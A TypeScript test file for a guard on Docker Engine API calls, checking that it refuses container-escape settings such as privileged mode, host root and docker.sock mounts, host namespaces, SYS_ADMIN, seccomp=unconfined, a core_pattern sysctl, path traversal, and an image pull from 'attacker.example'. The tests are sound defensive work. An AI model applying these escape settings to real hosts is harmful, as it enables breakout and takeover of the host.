import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type ContainerSpec, containerLabels } from "@appserver/kernel/ports";
import { hardenedHostConfig } from "../hardened-host-config.ts";
import { replicaOfLabel } from "../replicas.ts";
import { type GuardedCall, GuardedCalls } from "./guarded-calls.ts";

const calls = new GuardedCalls("acme");
const digest = `sha256:${"0".repeat(64)}`;
const spec: ContainerSpec = {
  name: "app-com.example.notes",
  image: `registry.example/com.example.notes@${digest}`,
  environment: {},
  labels: { [containerLabels.instance]: "acme", [containerLabels.appId]: "one" },
  network: "appserver-acme",
  port: 3000,
  endpoint: "publish",
  memoryMb: 256,
  cpuShares: 512,
  pidsLimit: 64,
  readOnlyRoot: true,
  storage: [{ name: "data", mountPath: "/data", variable: "DATA" }],
};
const labels = { ...spec.labels, [containerLabels.gateway]: "" };
const host = hardenedHostConfig(spec, true);
const container = { Image: spec.image, Env: ["A=b"], Labels: labels, ExposedPorts: { "3000/tcp": {} }, HostConfig: host };
const mount = { Type: "volume", Source: "appserver-acme-one-data", Target: "/data", VolumeOptions: { NoCopy: true } };

function admitted(method: string, target: string): GuardedCall {
  const call = calls.admit(method, `/v1.44${target}`);
  if (typeof call === "string") assert.fail(call);
  return call;
}

const problem = (target: string, body: object): string | undefined => admitted("POST", target).problemOf?.(body);
const created = (changes: object): string | undefined => problem("/containers/create?name=app-x", { ...container, ...changes });
const hosted = (changes: object): string | undefined => created({ HostConfig: { ...host, ...changes } });

describe("the calls that the guard of the engine admits", () => {
  it("a container as the driver makes it", () => {
    assert.equal(created({}), undefined);
    assert.equal(created({ User: "1000", NetworkingConfig: { EndpointsConfig: { net: { Aliases: ["app-x"] } } } }), undefined);
  });

  it("another instance of a container, with the volume of its identity, whose owner is looked at", () => {
    const identity = "0".repeat(64);
    const body = {
      ...container,
      Labels: { ...labels, [replicaOfLabel]: "f1rst" },
      HostConfig: hardenedHostConfig(spec, true, identity),
    };
    assert.equal(created(body), undefined);
    const { subjects } = admitted("POST", "/containers/create?name=app-x--2");
    const storage = { kind: "volume", name: "appserver-acme-one-data" };
    assert.deepEqual(subjects(body), [{ kind: "app", name: "f1rst", shares: { identity, appId: "one" } }, storage]);
    const [unowned] = subjects({ ...body, Labels: labels });
    assert.equal(unowned?.name, "", "no container has this name");
  });

  const hostile: Readonly<Record<string, () => string | undefined>> = {
    "a privileged container": () => hosted({ Privileged: true }),
    "a folder of the host": () => hosted({ Binds: ["/:/host"] }),
    "a mount of the host": () => hosted({ Mounts: [{ Type: "bind", Source: "/", Target: "/host" }] }),
    "the socket of the engine": () => hosted({ Mounts: [{ ...mount, Type: "bind", Source: "/var/run/docker.sock" }] }),
    "a volume with options": () =>
      hosted({
        Mounts: [{ ...mount, VolumeOptions: { NoCopy: true, DriverConfig: { Name: "local", Options: { o: "bind" } } } }],
      }),
    "an identity elsewhere": () => hosted({ Mounts: [{ ...mount, Source: "0".repeat(64) }] }),
    "a volume of another program at the place of the identity": () =>
      hosted({ Mounts: [{ ...mount, Source: "postgres-data", Target: "/run/appserver" }] }),
    "a volume of another program": () => hosted({ Mounts: [{ ...mount, Source: "postgres-data" }] }),
    "the network of the host": () => hosted({ NetworkMode: "host" }),
    "the network of another container": () => hosted({ NetworkMode: "container:vault" }),
    "the processes of the host": () => hosted({ PidMode: "host" }),
    "the memory of the host": () => hosted({ IpcMode: "host" }),
    "the name of the host": () => hosted({ UTSMode: "host" }),
    "the users of the host": () => hosted({ UsernsMode: "host" }),
    "control groups of the host": () => hosted({ CgroupnsMode: "host" }),
    "another control group": () => hosted({ CgroupParent: "/system.slice" }),
    "a device": () => hosted({ Devices: [{ PathOnHost: "/dev/sda" }] }),
    "rules for devices": () => hosted({ DeviceCgroupRules: ["a *:* rwm"] }),
    "a graphics card": () => hosted({ DeviceRequests: [{ Count: -1 }] }),
    "a capability": () => hosted({ CapAdd: ["SYS_ADMIN"] }),
    "capabilities that are kept": () => hosted({ CapDrop: [] }),
    "another security option": () => hosted({ SecurityOpt: ["seccomp=unconfined"] }),
    "new privileges": () => hosted({ SecurityOpt: [] }),
    "volumes of another container": () => hosted({ VolumesFrom: ["vault"] }),
    "settings of the kernel": () => hosted({ Sysctls: { "kernel.core_pattern": "|/x" } }),
    "another runtime": () => hosted({ Runtime: "runc-debug" }),
    "a port for all": () => hosted({ PortBindings: { "3000/tcp": [{ HostIp: "0.0.0.0", HostPort: "80" }] } }),
    "all ports": () => hosted({ PublishAllPorts: true }),
    "memory without an end": () => hosted({ Memory: -1 }),
    "a part of the hardening": () => created({ HostConfig: { NetworkMode: "appserver-acme" } }),
    "a log elsewhere": () => hosted({ LogConfig: { Type: "syslog", Config: {} } }),
    "anonymous volumes": () => created({ Volumes: { "/data": {} } }),
    "a field that the platform does not send": () => created({ StopSignal: "SIGKILL" }),
    "a container of another installation": () => created({ Labels: { ...labels, [containerLabels.instance]: "other" } }),
    "a container that all networks reach": () => created({ Labels: { ...labels, [containerLabels.gateway]: "acme" } }),
    "a helper that is no helper": () => problem("/containers/create?name=appserver-storage-acme-one", container),
    "a command of a helper": () =>
      problem("/containers/create?name=appserver-storage-acme-one", {
        Image: "x",
        Entrypoint: ["/bin/sh"],
        Labels: { "appserver.storage-helper": "true", [containerLabels.gateway]: "" },
        HostConfig: { NetworkMode: "none", Mounts: [] },
      }),
    "a volume that is a folder of the host": () =>
      problem("/volumes/create", {
        Name: "appserver-acme-one-data",
        Labels: labels,
        DriverOpts: { type: "none", o: "bind", device: "/" },
      }),
    "a network of another kind": () =>
      problem("/networks/create", { Name: "appserver-acme", Driver: "macvlan", CheckDuplicate: true }),
    "a network with options": () =>
      problem("/networks/create", { Name: "n", Driver: "bridge", CheckDuplicate: true, Options: { parent: "eth0" } }),
    "no body": () => created({ HostConfig: null }),
  };
  for (const [what, attempt] of Object.entries(hostile)) it(`refuses ${what}`, () => assert.ok(attempt()));

  it("refuses calls that the driver does not make, and other readings of paths", () => {
    for (const [method, target] of [
      ["POST", "/containers/app-x/exec"],
      ["POST", "/containers/app-x/attach?stream=1"],
      ["POST", "/containers/app-x/update"],
      ["POST", "/containers/app-x/kill"],
      ["GET", "/containers/app-x/export"],
      ["GET", "/containers/app-x/archive?path=/run/appserver"],
      ["PUT", "/containers/app-x/archive?path=/"],
      ["PUT", "/containers/app-x/archive?path=/run/appserver&path=/etc"],
      ["POST", "/containers/app-x/start?checkpoint=a"],
      ["GET", "/containers/../secrets"],
      ["GET", "//containers/json"],
      ["GET", "/containers/app-x%2F..%2Fvault/json"],
      ["POST", "/images/create?fromSrc=http://attacker.example/x"],
      ["POST", "/images/load"],
      ["POST", "/build"],
      ["POST", "/commit?container=app-x"],
      ["DELETE", "/images/com.example.notes:latest"],
      ["POST", "/plugins/pull"],
      ["POST", "/swarm/init"],
      ["GET", "/events"],
      ["GET", "/system/df?type=container"],
      ["POST", "/auth"],
    ] as const)
      assert.equal(typeof calls.admit(method, `/v1.44${target}`), "string", `${method} ${target}`);
    assert.equal(typeof calls.admit("GET", "http://docker/v1.44/containers/json"), "string");
    assert.equal(typeof calls.admit("GET", "/v1.44/containers/json\n"), "string");
  });
});
